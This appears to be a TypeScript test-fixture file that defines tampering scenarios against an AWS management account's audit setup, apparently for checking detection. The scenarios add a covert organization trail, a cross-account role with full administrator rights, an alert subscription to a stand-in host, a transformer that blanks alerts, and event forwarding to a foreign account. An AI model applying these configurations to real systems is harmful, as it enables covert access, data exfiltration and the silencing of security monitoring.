import { dangerous } from "../of";
import { threat } from "../sources";

/** What is made anew, or says something else, without anything of ours being taken away. */
export const ADDITIONS = dangerous("askflorence", "management", [
  {
    id: "second-trail-guarded",
    title: "Somebody adds a second organization trail, guarded as ours is, into a bucket that nobody knows",
    danger: "A live copy of every account's events goes elsewhere.",
    source: threat("copy-events-by-own-trail"),
    at: ["copy"],
    made: {
      stack: (stack) =>
        stack.add("aws_cloudtrail", "copy", {
          name: "copy",
          s3_bucket_name: "logs-for-analysis-20261125",
          is_organization_trail: true,
          is_multi_region_trail: true,
          enable_log_file_validation: true,
          lifecycle: { prevent_destroy: true },
        }),
    },
  },
  {
    id: "role-added-for-a-stranger",
    title: "Somebody adds a role that another account may assume, with every right",
    danger: "A stranger administers the management account.",
    source: threat("enter-archive-by-access-role"),
    at: ["support", "support-policy"],
    made: {
      stack: (stack) =>
        stack
          .add("aws_iam_role", "support", {
            name: "support",
            assume_role_policy: JSON.stringify({
              Version: "2012-10-17",
              Statement: [
                { Effect: "Allow", Principal: { AWS: "arn:aws:iam::999988887777:root" }, Action: "sts:AssumeRole" },
              ],
            }),
          })
          .add("aws_iam_role_policy", "support-policy", {
            name: "all",
            role: "${aws_iam_role.support.name}",
            policy: JSON.stringify({
              Version: "2012-10-17",
              Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }],
            }),
          }),
    },
  },
  {
    id: "subscription-of-a-stranger",
    title: "Somebody subscribes an endpoint that the description does not name to the alarm topic",
    danger: "A stranger reads the alerts.",
    source: threat("subscribe-to-alerts"),
    at: ["stranger"],
    made: {
      stack: (stack) =>
        stack.add("aws_sns_topic_subscription", "stranger", {
          topic_arn: `\${${stack.addressOf("alarm-topic/topic")}.arn}`,
          protocol: "https",
          endpoint: "https://collector.invalid/alerts",
        }),
    },
  },
  {
    id: "alert-says-nothing",
    title: "Somebody makes a rule's alert say that all is well",
    danger: "The alert arrives, and nobody learns what happened.",
    source: threat("redirect-forwarder"),
    at: ["audit-hub/bus/target-trail-changed"],
    made: {
      stack: (stack) =>
        stack.set("audit-hub/bus/target-trail-changed", {
          input_transformer: { input_paths: {}, input_template: '"Scheduled maintenance: nothing to do."' },
        }),
    },
  },
  {
    id: "events-copied-to-a-stranger",
    title: "Somebody adds a target in another account to a forwarding rule",
    danger: "A stranger gets a copy of every event.",
    source: threat("redirect-forwarder"),
    at: ["copy"],
    made: {
      stack: (stack) =>
        stack.add("aws_cloudwatch_event_target", "copy", {
          rule: `\${${stack.addressOf("forwarding/audit/rule-1")}.name}`,
          arn: "arn:aws:events:us-east-1:999988887777:event-bus/collector",
          role_arn: "arn:aws:iam::778477254880:role/askflorence-org-audit-forward-audit-us-east-1",
        }),
    },
  },
]);
